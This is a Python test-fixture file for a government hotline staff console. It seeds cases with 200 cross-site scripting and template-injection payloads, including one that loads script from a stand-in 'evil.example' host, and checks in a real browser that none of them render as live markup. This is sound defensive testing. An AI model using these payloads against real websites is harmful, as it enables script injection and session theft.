"""The staff console against a real `minsheng serve` on a temporary SQLite database, seeded
through the service layer, and driven by Debian's Chromium through Playwright.

No browser is downloaded: Chromium comes from the system (`apt-get install chromium`).
"""

from __future__ import annotations

import datetime as dt
import os
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import yaml

from minsheng.config.settings import PROJECT_ROOT, Settings

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
MARK = "INJ"


def _unavailable(what: str, why: str) -> None:
    """Skip on a machine without the browser; fail in CI, where `make test` installs it."""
    message = f"{what} is not available ({why}); run `make test` to install it"
    if os.environ.get("CI"):
        pytest.fail(message)
    pytest.skip(message)


# -- 200 injection payloads -----------------------------------------------------------------

_VECTORS = [
    "<script>alert('INJ')</script>",
    "<script src=//evil.example/INJ.js></script>",
    "<img src=x onerror=alert('INJ')>",
    "<img src=x onerror=\"alert('INJ')\" data-inj=1>",
    "<svg onload=alert('INJ')>",
    "<svg><script>alert('INJ')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('INJ')\"><text x=20 y=20>INJ</text></a></svg>",
    "<svg><animate onbegin=alert('INJ') attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('INJ')>",
    "<math href=\"javascript:alert('INJ')\">INJ</math>",
    "<a href=\"javascript:alert('INJ')\">INJ</a>",
    "<a href=\"JaVaScRiPt:alert('INJ')\">INJ</a>",
    "<a href=\"&#106;avascript:alert('INJ')\">INJ</a>",
    "<iframe src=\"javascript:alert('INJ')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('INJ')</script>\"></iframe>",
    "<object data=\"javascript:alert('INJ')\"></object>",
    "<embed src=\"javascript:alert('INJ')\">",
    "<body onload=alert('INJ')>",
    "<details open ontoggle=alert('INJ')>",
    "<input autofocus onfocus=alert('INJ')>",
    "<select autofocus onfocus=alert('INJ')></select>",
    "<textarea autofocus onfocus=alert('INJ')></textarea>",
    "<video><source onerror=alert('INJ')></video>",
    "<audio src=x onerror=alert('INJ')>",
    "<form action=\"javascript:alert('INJ')\"><button>INJ</button></form>",
    "<button formaction=\"javascript:alert('INJ')\">INJ</button>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert('INJ')\">",
    "<base href=\"javascript:alert('INJ')//\">",
    "<link rel=stylesheet href=\"javascript:alert('INJ')\">",
    "<style>@import 'javascript:alert(\"INJ\")';</style>",
    "<div style=\"background:url(javascript:alert('INJ'))\">INJ</div>",
    "<marquee onstart=alert('INJ')>INJ</marquee>",
    "<template><img src=x onerror=alert('INJ')></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('INJ')>\">",
    "{{ 7*191 }} INJ {% raw %}",
    "{{ config.items() }} INJ",
    "${alert('INJ')} #{INJ} <%= INJ %>",
    "<!--INJ--><img src=x onerror=alert('INJ')>",
    "<x onclick=alert('INJ')>INJ</x>",
    "\u202e<img src=x onerror=alert('INJ')>\u0000",
]
# Each vector also inside contexts that try to break out of attributes, text areas and
# titles first.
_BREAKERS = ["", '"><', "'>", "</textarea></title></script>", "\"); alert('INJ'); //"]


def make_payloads() -> list[str]:
    payloads = [f"{breaker}{vector}" for breaker in _BREAKERS for vector in _VECTORS]
    assert len(payloads) == 200 and len(set(payloads)) == 200
    return payloads


@pytest.fixture(scope="session")
def payloads() -> list[str]:
    return make_payloads()


# -- what live markup is allowed in the console's pages --------------------------------------

OUR_TAGS = frozenset(
    {
        "html",
        "head",
        "meta",
        "title",
        "link",
        "script",
        "body",
        "header",
        "nav",
        "main",
        "section",
        "aside",
        "div",
        "span",
        "a",
        "form",
        "input",
        "select",
        "option",
        "textarea",
        "button",
        "label",
        "h1",
        "h2",
        "p",
        "small",
        "strong",
        "br",
        "dl",
        "dt",
        "dd",
        "ol",
        "ul",
        "li",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "code",
        "figure",
        "figcaption",
        # drawn by charts.js on the dashboard
        "svg",
        "rect",
        "line",
        "text",
        "path",
        "circle",
        "g",
    }
)
URL_ATTRS = frozenset(
    {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc", "background", "poster"}
)


def violations_of(tag: str, attrs: list[tuple[str, str | None]]) -> list[str]:
    """Why this element could not have come from the console's own templates."""
    found = []
    if tag not in OUR_TAGS:
        found.append(f"<{tag}> element")
    for name, value in attrs:
        value = (value or "").strip().lower()
        if name.startswith("on"):
            found.append(f"<{tag} {name}> handler")
        if name in URL_ATTRS and value.replace("\x00", "").startswith(
            ("javascript:", "vbscript:", "data:text/html")
        ):
            found.append(f"<{tag} {name}={value[:30]}>")
        if name in ("style", "srcdoc") or name.startswith("data-inj"):
            found.append(f"<{tag} {name}> attribute")
        local_link = name == "href" and value.startswith("/console/")  # percent-encoded
        if MARK.lower() in value and name not in ("value", "data-spec") and not local_link:
            found.append(f"<{tag} {name}> holds injected text")
    if tag == "script" and not dict(attrs).get("src", "").startswith("/console/static/"):
        found.append("a script that is not one of the console's files")
    return found


class _Checker(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.extend(violations_of(tag, attrs))

    handle_startendtag = handle_starttag


def html_violations(html: str) -> list[str]:
    checker = _Checker()
    checker.feed(html)
    checker.close()
    return checker.found


@pytest.fixture(scope="session")
def live_markup() -> Callable[[str], list[str]]:
    return html_violations


# The same rules, run by the browser over the DOM it actually built.
DOM_CHECK = """
(args) => {
  const [ourTags, urlAttrs, mark] = args;
  const found = [];
  for (const el of document.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (!ourTags.includes(tag)) found.push('<' + tag + '> element');
    for (const a of el.attributes) {
      const name = a.name.toLowerCase(), value = a.value.trim().toLowerCase();
      if (name.startsWith('on')) found.push('<' + tag + ' ' + name + '> handler');
      if (urlAttrs.includes(name) && /^(javascript:|vbscript:|data:text\\/html)/.test(value))
        found.push('<' + tag + ' ' + name + '>');
      if (name === 'style' || name === 'srcdoc' || name.startsWith('data-inj'))
        found.push('<' + tag + ' ' + name + '> attribute');
      const localLink = name === 'href' && value.startsWith('/console/');  // percent-encoded
      if (value.includes(mark.toLowerCase()) && name !== 'value' && name !== 'data-spec'
          && !localLink)
        found.push('<' + tag + ' ' + name + '> holds injected text');
    }
    if (tag === 'script' && !(el.getAttribute('src') || '').startsWith('/console/static/'))
      found.push('foreign script');
  }
  if (window.__injected) found.push('window.__injected was set');
  return found;
}
"""


@pytest.fixture(scope="session")
def dom_check() -> tuple[str, list[Any]]:
    return DOM_CHECK, [sorted(OUR_TAGS), sorted(URL_ATTRS), MARK]


# -- seeded data ----------------------------------------------------------------------------


@dataclass
class Seeded:
    settings: Settings
    database_url: str
    passwords: dict[str, str] = field(default_factory=dict)
    refs: dict[str, Any] = field(default_factory=dict)
    dashboard_month: str = ""


class _Clock:
    def __init__(self, start: dt.datetime) -> None:
        self.now = start

    def __call__(self) -> dt.datetime:
        return self.now


def _month_start(today: dt.date, back: int, tz: dt.tzinfo) -> dt.datetime:
    index = today.year * 12 + today.month - 1 - back
    return dt.datetime(index // 12, index % 12 + 1, 1, tzinfo=tz)


def seed(settings: Settings, database_url: str, payload_list: list[str]) -> Seeded:
    """Three past months of cases with responses, resolutions, ratings and transfers, open
    cases for the clerk, cases for the triage desk, and 20 cases carrying the payloads."""
    import factories

    from case_store import migrate
    from minsheng.services.access import staff
    from minsheng.services.bootstrap import bootstrap
    from minsheng.services.casework import resident_actions, staff_actions

    real_now = dt.datetime.now(dt.UTC)
    clock = _Clock(real_now)
    app = bootstrap(settings.model_copy(update={"database_url": database_url}), clock=clock)
    migrate.upgrade(app.engine)
    out = Seeded(settings=settings, database_url=database_url)
    for login, dept, role in (
        ("clerk", "housing_bureau", "agent"),
        ("other", "market_regulation", "agent"),
        ("chief", "supervision", "supervisor"),
        ("desk", "hotline_12345", "triage"),
    ):
        out.passwords[login] = staff.add_staff(
            app, name=f"{login.title()} 张", department=dept, role=role, login=login
        ).password
    counter = iter(range(10_000))

    def submit(
        text: str,
        domain: str,
        urgency: str = "high",
        kind: str = "demand",
        address: str | None = None,
    ) -> str:
        n = next(counter)
        return factories.submit(
            app,
            text,
            domain,
            urgency=urgency,
            kind=kind,
            resident=f"r{n}",
            display_name=f"居民{n}",
            address=address,
        )

    today = real_now.astimezone(app.tz).date()
    scores = (5, 4, 5, 3, 5, 4, 2)
    for back in (3, 2, 1):
        start = _month_start(today, back, app.tz) + dt.timedelta(days=2, hours=9)
        clock.now = start
        housing = [submit(f"小区{i}号楼电梯故障，{back}月前反映", "housing") for i in range(7)]
        market = [submit(f"超市{i}虚假促销", "market", "normal", "complaint") for i in range(3)]
        other = [submit(f"其他事项{i}", "other", "normal") for i in range(2)]
        clock.now = start + dt.timedelta(hours=1 + back)
        for ref in housing[:6] + market[:2]:
            staff_actions.accept(app, ref)
        staff_actions.transfer(app, housing[6], to_department="utilities_desk", reason="属供水问题")
        staff_actions.transfer(app, market[2], to_department=None, reason="非本单位职责")
        staff_actions.transfer(app, other[0], to_department="city_management", reason="城管职责")
        clock.now = start + dt.timedelta(days=5)
        for ref, score in zip(housing[:6], scores, strict=False):
            staff_actions.resolve(app, ref, note="已修复")
            resident_actions.rate(app, ref, score=score)
        staff_actions.resolve(app, market[0], note="已查处")
    # Open work for today's queue: one urgent, one overdue-soon, one normal.
    clock.now = real_now - dt.timedelta(hours=3)
    out.refs["overdue"] = submit(
        "楼道积水漏电，已经三小时没人管", "housing", "urgent", address="临江市滨江区幸福路12号"
    )
    clock.now = real_now - dt.timedelta(minutes=30)
    out.refs["clerk_case"] = submit(
        "小区门口路灯坏了一个星期，晚上很黑，请尽快维修。",
        "housing",
        "high",
        address="临江市高新区创业路88号",
    )
    resident_actions.resident_message(app, out.refs["clerk_case"], text="补充：是东门那一盏。")
    out.refs["normal"] = submit("想咨询公租房申请条件", "housing", "normal", "inquiry")
    clock.now = real_now - dt.timedelta(hours=20)
    submit(
        "物业擅自上调停车费，业主不知情",
        "housing",
        "normal",
        "complaint",
        address="临江市滨江区锦绣花园",
    )
    clock.now = real_now - dt.timedelta(days=2)
    lift = submit("电梯上周困人，维修后仍然经常停运", "housing", "high")
    staff_actions.accept(app, lift)
    clock.now = real_now - dt.timedelta(days=6)
    rubbish = submit("小区垃圾清运不及时，楼下堆了三天", "housing", "normal")
    staff_actions.accept(app, rubbish)
    staff_actions.ask_resident(app, rubbish, question="请问是几号楼附近？")
    # Two days old: an inquiry's 5-working-day target is still ahead, behind the urgent case.
    clock.now = real_now - dt.timedelta(days=2)
    submit("老旧小区加装电梯的补贴政策和进度想了解一下", "housing", "normal", "inquiry")
    # Bounced twice: back at the triage desk's supervisor for a decision.
    bounced = submit("楼上漏水到我家，物业说不归他们管", "housing", "normal")
    staff_actions.transfer(app, bounced, to_department="utilities_desk", reason="非房管职责")
    staff_actions.transfer(app, bounced, to_department="housing_bureau", reason="属物业纠纷")
    staff_actions.transfer(app, bounced, to_department="utilities_desk", reason="仍非房管职责")
    out.refs["bounced"] = bounced
    # 200 payloads over 20 cases: description, address and eight follow-up messages each.
    injected = []
    for i in range(20):
        chunk = payload_list[i * 10 : (i + 1) * 10]
        clock.now = real_now - dt.timedelta(minutes=20 - i)
        # Away from the clerk's queue: the supervisor walks every page, the desk its own.
        ref = submit(chunk[0], "other" if i % 4 == 0 else "environment", "normal", address=chunk[1])
        for text in chunk[2:]:
            resident_actions.resident_message(app, ref, text=text)
        injected.append(ref)
    out.refs["injected"] = injected
    out.dashboard_month = _month_start(today, 1, app.tz).strftime("%Y-%m")
    app.dispose()
    return out


# -- the server and the browser -------------------------------------------------------------

# These pages' tests sign in several times a minute as a supervisor; one-time codes would
# refuse the repeats, so two-step sign-in is switched off here and tested on its own.


def without_two_factor(settings: Settings) -> Settings:
    console = settings.console.model_copy(update={"two_factor_roles": []})
    return settings.model_copy(update={"console": console})


def config_without_two_factor(folder: Path) -> Path:
    data = yaml.safe_load((PROJECT_ROOT / "config.yml").read_text(encoding="utf-8"))
    data.setdefault("console", {})["two_factor_roles"] = []
    path = folder / "config.yml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return path


@dataclass
class Server:
    base_url: str
    seeded: Seeded


@pytest.fixture(scope="module")
def console_server(
    tmp_path_factory: pytest.TempPathFactory,
    base_settings: Settings,
    payloads: list[str],
    serve: Any,
) -> Iterator[Server]:
    folder = tmp_path_factory.mktemp("console")
    url = f"sqlite:///{folder / 'minsheng.db'}"
    seeded = seed(base_settings, url, payloads)
    env = {k: v for k, v in os.environ.items() if not k.startswith("MINSHENG_")}
    env.update(MINSHENG_DATABASE_URL=url, MINSHENG_CONFIG=str(config_without_two_factor(folder)))
    with serve(env, folder, ready_path="/console/login", timeout=30) as base:
        yield Server(base_url=base, seeded=seeded)


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """Per module: Playwright's sync API must be stopped before another test starts it."""
    if not CHROMIUM.exists():
        _unavailable("Chromium", f"{CHROMIUM} is missing")
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        _unavailable("Playwright", "the playwright package is not installed")
    with sync_playwright() as p:
        chromium = p.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        yield chromium
        chromium.close()


@pytest.fixture
def new_page(browser: Any) -> Iterator[Callable[..., Any]]:
    """Fresh browser contexts (own cookies), laptop-sized unless told otherwise."""
    contexts: list[Any] = []

    def make(width: int = 1366, height: int = 900, locale: str = "zh-CN") -> Any:
        context = browser.new_context(viewport={"width": width, "height": height}, locale=locale)
        contexts.append(context)
        page = context.new_page()
        page.set_default_timeout(10_000)
        return page

    yield make
    for context in contexts:
        context.close()


@pytest.fixture(scope="session")
def screenshot_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """docs/screenshots is refreshed only when MINSHENG_SCREENSHOT_DIR names it."""
    target = os.environ.get("MINSHENG_SCREENSHOT_DIR")
    if target:
        path = Path(target)
        path.mkdir(parents=True, exist_ok=True)
        return path
    return tmp_path_factory.mktemp("screenshots")


# -- in-process client (no browser) ---------------------------------------------------------


@dataclass
class InProcess:
    app: Any  # minsheng.services.bootstrap.App
    seeded: Seeded
    client_for: Callable[..., Any]


@pytest.fixture(scope="session")
def in_process(
    tmp_path_factory: pytest.TempPathFactory, base_settings: Settings, payloads: list[str]
) -> Iterator[InProcess]:
    """The console app in this process on its own seeded database, for fast HTTP checks."""
    from fastapi.testclient import TestClient

    from minsheng.services.bootstrap import bootstrap
    from minsheng.web.app import create_app

    folder = tmp_path_factory.mktemp("console-http")
    url = f"sqlite:///{folder / 'minsheng.db'}"
    seeded = seed(base_settings, url, payloads)
    app = bootstrap(without_two_factor(base_settings).model_copy(update={"database_url": url}))
    web = create_app(app)
    clients: list[Any] = []

    def client_for(https: bool = True, **headers: str) -> Any:
        client = TestClient(
            web,
            base_url="https://testserver" if https else "http://testserver",
            headers=headers or None,
        )
        clients.append(client)
        return client

    yield InProcess(app=app, seeded=seeded, client_for=client_for)
    for client in clients:
        client.close()
    app.dispose()
